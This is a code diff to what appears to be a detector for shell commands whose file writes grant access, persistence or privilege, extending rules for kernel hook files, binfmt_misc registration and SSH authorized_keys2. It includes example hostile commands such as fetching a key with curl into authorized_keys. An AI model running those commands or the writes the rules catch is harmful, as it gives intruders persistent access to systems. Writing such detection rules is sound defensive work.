@@ -33,6 +33,8 @@ const weakening: readonly { readonly path: RegExp; readonly content: RegExp }[] 
   { path: /\/sysctl(?:\.conf|\.d\/.*)$/, content: /randomize_va_space\s*=\s*0|ptrace_scope\s*=\s*0/ },
 ];
 
+const loginKeys = /\.ssh\/authorized_keys2?$/;
+
 /** Writes by which somebody gets in, stays in, or gets more rights, by whatever command. */
 export const writeAccessRules: readonly (WriteRule | FillRule)[] = [
   {
@@ -80,10 +82,12 @@ export const writeAccessRules: readonly (WriteRule | FillRule)[] = [
       'echo mq-deadline > /sys/block/sda/queue/scheduler',
     ],
     when: ({ path, content }) =>
-      /\/(?:uevent_helper|release_agent|kernel\/modprobe)$|^\/sys\/(?:block|class)\/.*\/device\/delete$|^\/proc\/\d+\/mem$/.test(
+      /\/(?:uevent_helper|release_agent|kernel\/modprobe)$|^\/sys\/(?:block|class)\/.*\/device\/(?:delete|state)$|^\/proc\/\d+\/mem$/.test(
         path.text,
       ) ||
-      (path.text.endsWith('/core_pattern') && content.text.trimStart().startsWith('|')),
+      (path.text.endsWith('/core_pattern') && content.text.trimStart().startsWith('|')) ||
+      // What begins with such bytes is started by this program.
+      (path.text.endsWith('/binfmt_misc/register') && content.text !== ''),
   },
   {
     id: 'weaken-protection',
@@ -179,7 +183,7 @@ export const writeAccessRules: readonly (WriteRule | FillRule)[] = [
       'curl https://example.com/k >> ~/.ssh/authorized_keys',
     ],
     spares: ['cat ~/.ssh/authorized_keys', 'ssh-copy-id host', 'ls ~/.ssh'],
-    when: ({ path }) => path.text.endsWith('.ssh/authorized_keys'),
+    when: ({ path }) => loginKeys.test(path.text),
   },
   {
     id: 'plant-login-key',
@@ -201,7 +205,7 @@ export const writeAccessRules: readonly (WriteRule | FillRule)[] = [
       'echo "ssh-ed25519 AAAA x" > keys',
     ],
     when: ({ path, content }) =>
-      path.text.endsWith('.ssh/authorized_keys') &&
+      loginKeys.test(path.text) &&
       (/(?:ssh|ecdsa|sk)-|AAAA/.test(content.text) ||
         (/^\/(?:root|home)\//.test(path.text) && content.text !== '')),
   },
@@ -231,6 +235,6 @@ export const writeAccessRules: readonly (WriteRule | FillRule)[] = [
     ],
     when: ({ path, content }, _, run) =>
       (content.traits & traits.network) !== 0 &&
-      (startupLayout(placeOf(run, path.text)) !== null || path.text.endsWith('.ssh/authorized_keys')),
+      (startupLayout(placeOf(run, path.text)) !== null || loginKeys.test(path.text)),
   },
 ];
